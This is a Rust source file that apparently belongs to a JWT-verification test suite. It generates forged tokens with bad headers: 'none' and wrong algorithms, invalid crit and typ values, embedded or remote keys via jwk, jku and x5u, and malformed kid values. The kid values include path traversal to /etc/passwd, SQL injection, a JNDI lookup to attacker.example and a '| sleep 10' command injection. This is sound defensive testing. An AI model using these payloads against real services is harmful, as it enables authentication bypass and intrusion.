//! Headers that we do not write.

use super::algorithms::private;
use super::{Forgery, forgery, parts};
use crate::common::{Forge, decode, encode, payload, sign_with, with, without};
use jsonwebtoken::{Algorithm, EncodingKey};
use latchkey_domain::model::{JwtAlgorithm, SigningKey};
use serde_json::{Value, json};

/// Signed right with HS256, wrong in the header.
pub fn all(forge: &Forge) -> Vec<Forgery> {
    let good = forge.header();
    let mut headers: Vec<(String, Value)> = Vec::new();
    for crit in [
        json!(["x"]),
        json!(["b64"]),
        json!(["exp"]),
        json!(["alg"]),
        json!(["crit"]),
        json!([]),
        json!([[]]),
        json!([null]),
        json!("exp"),
        json!(""),
        json!(null),
        json!(0),
        json!(false),
        json!({}),
        json!(["x", "x"]),
    ] {
        let header = with(good.clone(), "crit", crit.clone());
        let header = with(header, "x", json!(1));
        headers.push((format!("crit {crit}"), with(header, "b64", json!(false))));
    }
    for typ in [
        json!("jwt"),
        json!("JWT "),
        json!("at+jwt"),
        json!("application/jwt"),
        json!("dpop+jwt"),
        json!("JWE"),
        json!("JOSE"),
        json!(""),
        json!(null),
        json!(["JWT"]),
        json!(1),
        json!({}),
    ] {
        headers.push((format!("typ {typ}"), with(good.clone(), "typ", typ)));
    }
    for alg in [
        "HS384", "HS512", "EdDSA", "RS256", "none", "hs256", "HS256 ", "",
    ] {
        headers.push((
            format!("alg {alg:?}"),
            with(good.clone(), "alg", json!(alg)),
        ));
    }
    for alg in [
        json!(null),
        json!(["HS256"]),
        json!({"alg": "HS256"}),
        json!(256),
    ] {
        headers.push((format!("alg {alg}"), with(good.clone(), "alg", alg)));
    }
    for name in ["typ", "alg", "kid"] {
        headers.push((format!("no {name}"), without(good.clone(), name)));
    }
    headers
        .extend(odd_kids(&forge.kid).map(|(class, kid)| (class, with(good.clone(), "kid", kid))));
    let payload = payload().to_string();
    headers
        .into_iter()
        .map(|(class, header)| forgery(class, forge.sign(&header.to_string(), &payload)))
        .collect()
}

fn odd_kids(kid: &str) -> impl Iterator<Item = (String, Value)> {
    [
        json!(""),
        json!("k".repeat(5000)),
        json!("../../../../etc/passwd"),
        json!("/dev/null"),
        json!("' OR 1=1--"),
        json!("x' UNION SELECT 'secret"),
        json!("\0"),
        json!("a\0b"),
        json!("https://attacker.example/key"),
        json!("${jndi:ldap://attacker.example}"),
        json!("| sleep 10"),
        json!(0),
        json!(-1),
        json!(1.5),
        json!(true),
        json!(null),
        json!([]),
        json!([kid]),
        json!({}),
        json!({"kid": kid}),
        json!(format!("{kid} ")),
        json!(format!(" {kid}")),
        json!(format!("{kid}\n")),
        json!(format!("{kid}\0")),
        json!(format!("{kid}=")),
        json!(&kid[1..]),
        json!(format!("{kid}{kid}")),
        json!("+".repeat(43)),
        json!("é".repeat(43)),
        json!("é".repeat(21) + "a"),
        // Stray bits in the last character: no encoder writes this.
        json!("B".repeat(43)),
    ]
    .into_iter()
    .map(|kid| (format!("kid {kid:.40}"), kid))
}

/// A token of another key under kids that none of ours could have.
pub fn malformed_kids(token: &str, kid: &str) -> Vec<Forgery> {
    let [header, payload, signature] = parts(token);
    let header = decode(header);
    odd_kids(kid)
        .map(|(class, kid)| {
            let header = encode(with(header.clone(), "kid", kid).to_string());
            forgery(class, format!("{header}.{payload}.{signature}"))
        })
        .collect()
}

/// Tokens under our kid, signed by their key, which they bring along or tell where to find.
pub fn embedded_keys(ours: &SigningKey, theirs: &SigningKey) -> Vec<Forgery> {
    let good = json!({"typ": "JWT", "alg": ours.algorithm.name(), "kid": ours.kid});
    let jwk = theirs.public_jwk.clone();
    let url = json!("http://127.0.0.1:9/keys");
    let headers = [
        ("nothing", good.clone()),
        ("jwk", with(good.clone(), "jwk", jwk.clone())),
        (
            "jwk under our kid",
            with(good.clone(), "jwk", with(jwk, "kid", json!(ours.kid))),
        ),
        ("jku", with(good.clone(), "jku", url.clone())),
        ("x5u", with(good.clone(), "x5u", url)),
        (
            "x5c",
            with(good.clone(), "x5c", json!([theirs.public_jwk["x"]])),
        ),
        ("x5t", with(good, "x5t", json!(theirs.kid))),
    ];
    let (key, algorithm) = encoding(theirs);
    let payload = payload().to_string();
    headers
        .into_iter()
        .map(|(class, header)| {
            let header = header.to_string();
            forgery(
                class,
                sign_with(&key, algorithm, header.as_bytes(), payload.as_bytes()),
            )
        })
        .collect()
}

fn encoding(key: &SigningKey) -> (EncodingKey, Algorithm) {
    let private = private(key);
    match key.algorithm {
        JwtAlgorithm::EdDsa => (EncodingKey::from_ed_der(&private), Algorithm::EdDSA),
        JwtAlgorithm::Es256 => (EncodingKey::from_ec_der(&private), Algorithm::ES256),
        // PKCS#1 begins after the 26 bytes that PKCS#8 puts around a key of 2048 bits.
        _ => (EncodingKey::from_rsa_der(&private[26..]), Algorithm::RS256),
    }
}
